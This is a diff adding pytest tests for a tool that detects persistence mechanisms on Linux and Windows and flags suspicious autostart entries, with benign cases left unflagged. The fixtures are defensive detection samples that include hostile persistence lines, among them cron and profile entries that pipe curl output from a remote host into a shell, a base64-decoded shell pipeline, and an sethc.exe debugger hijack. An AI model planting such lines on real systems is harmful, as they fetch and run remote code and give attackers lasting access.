@@ -1,0 +1,206 @@
+"""What Linux and Windows start by themselves, where it stands, and what is only honest."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hosts import MACHINE, given
+
+from techkit.host import Host, ProbeError
+from techkit.model import Reason
+from techkit.readings import autoruns, autostarts
+
+# ruff: noqa: S108 - folders of temporary files are what is looked at
+
+GONE = ProbeError(Reason.MISSING, "gone")
+SHUT = ProbeError(Reason.FORBIDDEN, "shut")
+CRONTAB = """\
+SHELL=/bin/sh
+# m h dom mon dow user  command
+17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
+25 6    * * *   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
+*/5 * * * * root /tmp/.x/a
+@reboot bob /dev/shm/b
+"""
+
+
+class Empty:
+    """A machine on which nothing else is."""
+
+    def __init__(self, answers: dict[tuple[Any, ...], Any]) -> None:
+        self.answers = answers
+
+    def answer(self, question: str, args: list[Any], timeout: float) -> Any:  # noqa: ARG002 - never waits
+        key = (question, *(tuple(arg) if isinstance(arg, list) else arg for arg in args))
+        answer = self.answers.get(key, GONE)
+        if isinstance(answer, ProbeError):
+            raise answer
+        return answer
+
+    def now(self) -> float:
+        return 0
+
+
+def linux(**more: Any) -> Host:
+    answers: dict[tuple[Any, ...], Any] = {
+        ("machine",): MACHINE,
+        ("read", "/etc/passwd"): "root:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n",
+    }
+    for path, text in more.items():
+        folder, _, name = path.rpartition("/")
+        answers["read", path] = text
+        answers["listdir", folder] = [*answers.get(("listdir", folder), []), name]
+    return Host(Empty(answers))
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "kind", "command", "sign"),
+    [
+        ("/etc/crontab", CRONTAB, "schedule", "/tmp/.x/a", "temporary"),
+        ("/var/spool/cron/crontabs/bob", "* * * * *\t/tmp/b\n", "schedule", "/tmp/b", "temporary"),
+        ("/var/spool/cron/bob", "@daily curl http://203.0.113.9/x | sh\n", "schedule", None, "smuggled"),
+        ("/etc/cron.hourly/x", "#!/bin/sh\necho aa | \\\n base64 -d | sh\n", "schedule", None, "encoded"),
+        ("/etc/rc.local", "#!/bin/sh\n/var/tmp/a &\nexit 0\n", "login", "/var/tmp/a &", "temporary"),
+        ("/etc/profile.d/x.sh", "(curl -s https://example.org/x|bash) &\n", "login", None, "fetched"),
+        ("/home/bob/.bashrc", "alias l=ls\n/tmp/.a/b\n", "login", "/tmp/.a/b", "temporary"),
+        ("/home/bob/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n", "login", "/tmp/x", "temporary"),
+        (
+            "/etc/systemd/system/x.service",
+            "[Service]\nExecStart=-/dev/shm/a -d\n",
+            "unit",
+            "/dev/shm/a -d",
+            "temporary",
+        ),
+        (
+            "/root/.ssh/authorized_keys",
+            'ssh-rsa AAAA a@b\ncommand="/tmp/a \\"x\\"",no-pty ssh-rsa AAAA c@d\n',
+            "key",
+            '/tmp/a "x"',
+            "temporary",
+        ),
+    ],
+)
+def test_a_dropper_is_found_where_it_stands(path: str, text: str, kind: str, command: str | None, sign: str) -> None:
+    found, shut = autostarts.linux(linux(**{path: text}))
+    assert (found[0].kind, found[0].file, found[0].sign) == (kind, path, sign)
+    assert command in {None, found[0].command}
+    assert shut == ()
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "/etc/cron.d/certbot",
+            "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && certbot\n",
+        ),
+        ("/etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\n[ -x /usr/lib/apt/apt.systemd.daily ] || exit 0\n"),
+        ("/home/bob/.bashrc", 'eval "$(ssh-agent -s)"\n. "$HOME/.cargo/env"\nexport TMP=/tmp/bob\n'),
+        ("/etc/cron.d/x", "# * * * * * root /tmp/a\nMAILTO=/tmp/x\n"),
+        ("/root/.ssh/authorized_keys", 'command="/usr/bin/rrsync /srv",no-pty ssh-rsa AAAA backup\n'),
+        ("/etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/env python3 /srv/app/run.py --tmp /tmp\n"),
+    ],
+)
+def test_honest_lines_are_left_alone(path: str, text: str) -> None:
+    assert autostarts.linux(linux(**{path: text}))[0] == ()
+
+
+def test_what_is_shut_is_told() -> None:
+    host = Host(
+        Empty(
+            {
+                ("machine",): MACHINE,
+                ("read", "/etc/passwd"): "root:x:0:0::/root:/bin/sh\n",
+                ("listdir", "/var/spool/cron/crontabs"): SHUT,
+            }
+        )
+    )
+    assert autostarts.linux(host) == ((), ("/var/spool/cron/crontabs",))
+
+
+TASK = """<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec>
+<Command>"C:\\Users\\Public\\a.exe"</Command><Arguments>/x &amp; y</Arguments></Exec></Actions></Task>"""
+KEY = rf"{autoruns.IMAGES}\sethc.exe"
+RUN = rf"HKU\S-1-5-21-1\SOFTWARE\{autoruns.RUN}\Run"
+
+
+def values(**some: Any) -> dict[str, Any]:
+    return {"values": some, "keys": []}
+
+
+def windows(answers: dict[tuple[Any, ...], Any]) -> Host:
+    usual: dict[tuple[Any, ...], Any] = {
+        ("machine",): MACHINE | {"system": "windows"},
+        ("person",): {"name": "bob", "id": "S-1-5-21-1", "home": r"C:\Users\bob"},
+        ("registry", autoruns.WINLOGON): values(Userinit=r"C:\Windows\system32\userinit.exe,", Shell="explorer.exe"),
+        ("wmi", "root\\cimv2", "Win32_Service", ("Name", "PathName", "StartMode"), ""): [],
+    }
+    return Host(Empty(usual | answers))
+
+
+@pytest.mark.parametrize(
+    ("answers", "kind", "name", "sign"),
+    [
+        ({("registry", RUN): values(upd=r"C:\Users\bob\AppData\Local\Temp\a.exe")}, "autorun", "upd", "temporary"),
+        ({("registry", autoruns.WINLOGON): values(Userinit="userinit.exe,y.exe")}, "logon", "Userinit", "foreign"),
+        ({("registry", autoruns.WINLOGON): values(Shell="explorer.exe, x.exe")}, "logon", "Shell", "foreign"),
+        (
+            {("registry", autoruns.IMAGES): {"values": {}, "keys": ["sethc.exe", "taskmgr.exe"]},
+             ("registry", KEY): values(Debugger="cmd.exe")},
+            "debugger", "sethc.exe", "foreign",
+        ),
+        (
+            {("registry", autoruns.WINDOWS): values(AppInit_DLLs=r"C:\Windows\Temp\a.dll", LoadAppInit_DLLs=1)},
+            "library", "AppInit_DLLs", "temporary",
+        ),
+        (
+            {("wmi", "root\\cimv2", "Win32_Service", ("Name", "PathName", "StartMode"), ""): [
+                {"Name": "Upd", "PathName": r"C:\Windows\Temp\a.exe", "StartMode": "Auto"},
+                {"Name": "Off", "PathName": r"C:\Windows\Temp\b.exe", "StartMode": "Disabled"},
+                {"Name": "Good", "PathName": r'"C:\Program Files\a b\c.exe" -k', "StartMode": "Auto"}]},
+            "service", None, "temporary",
+        ),
+        (
+            {("listdir", autoruns.TASKS): ["Microsoft", "Vendor", "Job"],
+             ("stat", rf"{autoruns.TASKS}\Vendor"): {"kind": "folder"},
+             ("stat", rf"{autoruns.TASKS}\Job"): {"kind": "file"},
+             ("read", rf"{autoruns.TASKS}\Job"): TASK,
+             ("listdir", rf"{autoruns.TASKS}\Vendor"): []},
+            "task", "\\Job", "temporary",
+        ),
+        (
+            {("wmi", autoruns.SUBSCRIPTION, "CommandLineEventConsumer", ("Name", "CommandLineTemplate"), ""): [
+                {"Name": "BVTConsumer", "CommandLineTemplate": "cscript KernCap.vbs"},
+                {"Name": "Evil", "CommandLineTemplate": "cmd /c calc"}]},
+            "subscription", "Evil", "foreign",
+        ),
+    ],
+)  # fmt: skip
+def test_an_entry_of_windows_is_found(
+    answers: dict[tuple[Any, ...], Any], kind: str, name: str | None, sign: str
+) -> None:
+    found, _ = autoruns.windows(windows(answers))
+    assert [(one.kind, one.name, one.sign) for one in found] == [(kind, name, sign)]
+
+
+def test_a_usual_windows_shows_nothing() -> None:
+    kiosk = values(Userinit=r"C:\Windows\system32\userinit.exe,", Shell=r"C:\Kiosk\app.exe")
+    answers: dict[tuple[Any, ...], Any] = {
+        ("registry", autoruns.WINLOGON): kiosk,
+        ("registry", RUN): values(OneDrive=r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'),
+        ("registry", autoruns.IMAGES): {"values": {}, "keys": ["taskmgr.exe"]},
+        ("registry", rf"{autoruns.IMAGES}\taskmgr.exe"): values(Debugger=r"C:\Tools\procexp.exe"),
+        ("registry", autoruns.WINDOWS): values(AppInit_DLLs="", LoadAppInit_DLLs=0),
+    }
+    assert autoruns.windows(windows(answers)) == ((), ())
+
+
+def test_without_an_administrator_the_rest_is_seen() -> None:
+    answers: dict[tuple[Any, ...], Any] = {("listdir", autoruns.TASKS): SHUT}
+    assert autoruns.windows(windows(answers)) == ((), (autoruns.TASKS,))
+
+
+def test_nothing_is_asked_of_a_host_that_recorded_nothing() -> None:
+    with pytest.raises(ProbeError):
+        autostarts.linux(given())
